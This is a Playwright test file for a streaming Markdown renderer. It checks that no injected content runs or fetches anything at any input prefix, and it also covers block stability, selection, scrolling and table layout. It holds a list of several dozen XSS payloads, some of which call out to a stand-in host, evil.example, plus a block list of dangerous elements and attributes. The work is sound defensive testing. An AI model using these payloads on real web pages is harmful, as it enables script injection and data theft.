"""The Markdown renderer by itself, in Chromium: safe at every prefix, at rest once closed."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

MODULE = Path(__file__).parents[2] / "js" / "dist" / "markdown.js"
PAGE = """<!doctype html>
<div id="scroller" style="height: 400px; overflow: auto"><div id="content"></div></div>"""
LOAD = """async source => {
    const address = URL.createObjectURL(new Blob([source], {type: 'text/javascript'}));
    window.markdown = await import(address);
    window.ran = [];
    for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
        window[name] = () => window.ran.push(name);
}"""

# OWASP's list and the classes of DOMPurify's fixtures, as a model could write them into an answer.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/y)}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=attributes><button>x</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<x onclick=alert(1) id=ran name=ran data-command=kernel:restart>x</x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1)) [y](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x] [y][x] ![z][x]",
    "<javascript:alert(1)> <data:text/html,x>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    '![x"onerror="alert(1)](https://evil.example/"onerror="alert(1) "t\\"onload=\\"alert(1)")',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    '```x" onclick="alert(1)\n<b>\n```',
    "| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n|---|---|\n| <svg> | `<svg>` |",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x}$ $\\class{a}{b}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$ \\(\\url{javascript:alert(1)}\\)",
)

AT_EACH_PREFIX = """payload => {
    const content = document.getElementById('content');
    const bad = [];
    const ELEMENTS = RegExp('^(script|iframe|object|embed|link|style|base|meta|form|svg|video'
        + '|img|template)$', 'i');
    const ATTRIBUTES = /^on|^(id|name|action|srcdoc|formaction|srcset)$|^data-|xlink/i;
    const look = () => {
        for (const node of content.querySelectorAll('*')) {
            if (ELEMENTS.test(node.localName)) bad.push(node.outerHTML);
            for (const {name, value} of node.attributes) {
                const leads = /^(href|src)$/.test(name) && value !== '';
                const protocol = leads && new URL(value, 'http://here.example').protocol;
                if (ATTRIBUTES.test(name) || (leads && !/^(https?|mailto):$/.test(protocol)))
                    bad.push(`${name}=${value}`);
            }
        }
    };
    for (const end of [...payload].keys()) {
        content.replaceChildren();
        const stream = markdown.createMarkdownStream(content, {math: true});
        stream.push(payload.slice(0, end + 1));
        stream.flush();
        look();
        stream.push(payload.slice(end + 1));
        stream.end();
        look();
        for (const link of content.querySelectorAll('a'))
            link.dispatchEvent(new MouseEvent('click', {cancelable: true}));
    }
    return [...new Set(bad), ...window.ran];
}"""

CHURN = """async text => {
    const content = document.getElementById('content');
    const stream = markdown.createMarkdownStream(content);
    const removed = [];
    const closed = new Set();
    const changes = new MutationObserver(records => {
        for (const {target, removedNodes} of records)
            for (const node of removedNodes)
                if ([...closed].some(block => block.contains(target)))
                    removed.push(node.textContent);
    });
    changes.observe(content, {childList: true, subtree: true});
    let made = 0;
    for (const name of ['createElement', 'createTextNode']) {
        const make = document[name].bind(document);
        document[name] = value => { made += 1; return make(value); };
    }
    for (let at = 0; at < text.length; at += 4) {
        stream.push(text.slice(at, at + 4));
        stream.flush();
        await Promise.resolve();
        // All but the last block and the one before it: its last line may be a table's head.
        for (const block of [...content.children].slice(0, -2)) closed.add(block);
    }
    stream.end();
    let final = 0;
    const walk = document.createTreeWalker(content);
    while (walk.nextNode()) final += 1;
    return {ratio: made / final, removed};
}"""


@pytest_asyncio.fixture(loop_scope="session")
async def page(browser: Browser) -> AsyncIterator[Page]:
    """A page with nothing but the renderer."""
    made = await browser.new_page(viewport={"width": 700, "height": 500})
    await made.set_content(PAGE)
    await made.evaluate(LOAD, MODULE.read_text("utf-8"))
    yield made
    await made.close()


async def test_no_payload_runs_or_fetches_anything_at_any_prefix(page: Page) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    for payload in PAYLOADS:
        assert await page.evaluate(AT_EACH_PREFIX, payload) == [], payload
    # What a payload had started would have begun by the next frame.
    await page.evaluate("() => new Promise(requestAnimationFrame)")
    assert await page.evaluate("window.ran") == []
    assert requests == []


def answer() -> str:
    """An answer with every element, some of them many times."""
    row = "| cell `code` | **two** | 3.14 |\n"
    part = (
        "## A heading with *emphasis*\n\nSome words, **bold ones**, `code`, "
        "a [link](https://example.com/a)\nand a second line, with 2 * 3 and snake_case_words and https://example.com/path.\n\n"
        "- one item\n- another **item**\n  - a nested one\n- [x] done\n\n"
        "1. first\n\n   more of it\n2. second\n\n"
        "> quoted *words*\n> and more\n\n"
        "```python\ndef f(x: int) -> str:\n    return f'{x}'  # why\n```\n\n"
    )
    return part * 6 + "| a | b | c |\n|---|:-:|--:|\n" + row * 20 + "\nThe end.\n"


async def test_closed_blocks_are_never_touched_and_few_nodes_are_made_twice(page: Page) -> None:
    churn = await page.evaluate(CHURN, answer())
    assert churn["removed"] == []
    assert churn["ratio"] <= 1.2


async def test_code_in_groups_is_selected_and_found_whole(page: Page) -> None:
    lines = [f"line {number} = {'x' * (number % 7)}" for number in range(300)]
    text = "```\n" + "\n".join(lines) + "\n```\n"
    selected = await page.evaluate(
        """text => {
            const content = document.getElementById('content');
            const stream = markdown.createMarkdownStream(content);
            for (let at = 0; at < text.length; at += 50) {
                stream.push(text.slice(at, at + 50));
                stream.flush();
            }
            stream.end();
            getSelection().selectAllChildren(content.querySelector('code'));
            const selected = getSelection().toString();
            getSelection().removeAllRanges();
            return [selected, window.find('line 250 =')];
        }""",
        text,
    )
    assert selected[0].rstrip("\n").split("\n") == lines
    assert selected[1]


async def test_a_selection_in_the_growing_text_survives(page: Page) -> None:
    await page.evaluate("""() => {
        window.stream = markdown.createMarkdownStream(document.getElementById('content'));
        stream.push('Some words that a person marks while ');
        stream.flush();
    }""")
    box = await page.locator("#content p").bounding_box()
    assert box is not None
    middle = box["y"] + box["height"] / 2
    await page.mouse.move(box["x"] + 30, middle)
    await page.mouse.down()
    for right in (60, 90, 120):
        await page.mouse.move(box["x"] + right, middle)
        await page.evaluate("() => { stream.push('more '); stream.flush(); }")
    await page.mouse.up()
    selected = await page.evaluate("() => String(getSelection())")
    assert len(selected) > 5
    await page.evaluate("() => { stream.push('of it '); stream.flush(); stream.end(); }")
    assert await page.evaluate("() => String(getSelection())") == selected
    assert (await page.inner_text("#content")).endswith("while more more more of it")


async def test_a_long_line_in_a_group_can_be_scrolled_to(page: Page) -> None:
    text = "```\n" + "short\n" * 100 + "long " * 100 + "\n" + "short\n" * 100 + "```\n"
    widths = await page.evaluate(
        """async text => {
            const content = document.getElementById('content');
            const stream = markdown.createMarkdownStream(content);
            stream.push(text);
            stream.end();
            const pre = content.querySelector('pre');
            pre.style.overflowX = 'auto';
            const groups = [...content.querySelectorAll('.streamchat-md-lines')];
            const group = groups.findLast(one => one.textContent.includes('long'));
            for (let frame = 0; frame < 3; frame += 1) await new Promise(requestAnimationFrame);
            group.scrollIntoView();
            for (let frame = 0; frame < 3; frame += 1) await new Promise(requestAnimationFrame);
            const {top} = group.getBoundingClientRect();
            return [pre.clientWidth, pre.scrollWidth, group.scrollWidth - group.clientWidth, top];
        }""",
        text,
    )
    assert widths[1] > 2 * widths[0]
    assert widths[2] <= 0
    assert abs(widths[3]) < 100


async def test_a_long_table_is_one_table_whose_columns_line_up(page: Page) -> None:
    rows = "".join(
        f"| {number} | word {'w' * (number % 9)} | `c{number}` |\n" for number in range(200)
    )
    lefts = await page.evaluate(
        """async text => {
            const content = document.getElementById('content');
            const stream = markdown.createMarkdownStream(content);
            for (let at = 0; at < text.length; at += 200) {
                stream.push(text.slice(at, at + 200));
                stream.flush();
                await new Promise(requestAnimationFrame);
            }
            stream.end();
            const lefts = new Set();
            for (const row of [0, 10, 100, 190]) {
                const tr = content.querySelectorAll('tr')[row];
                tr.scrollIntoView();
                await new Promise(requestAnimationFrame);
                const left = cell => Math.round(cell.getBoundingClientRect().left);
                lefts.add([...tr.children].map(left).join());
            }
            const count = name => content.querySelectorAll(name).length;
            return [count('table'), count('tr'), [...lefts]];
        }""",
        "| n | what | code |\n|---|---|---|\n" + rows,
    )
    assert lefts[:2] == [1, 201]
    assert len(lefts[2]) == 1
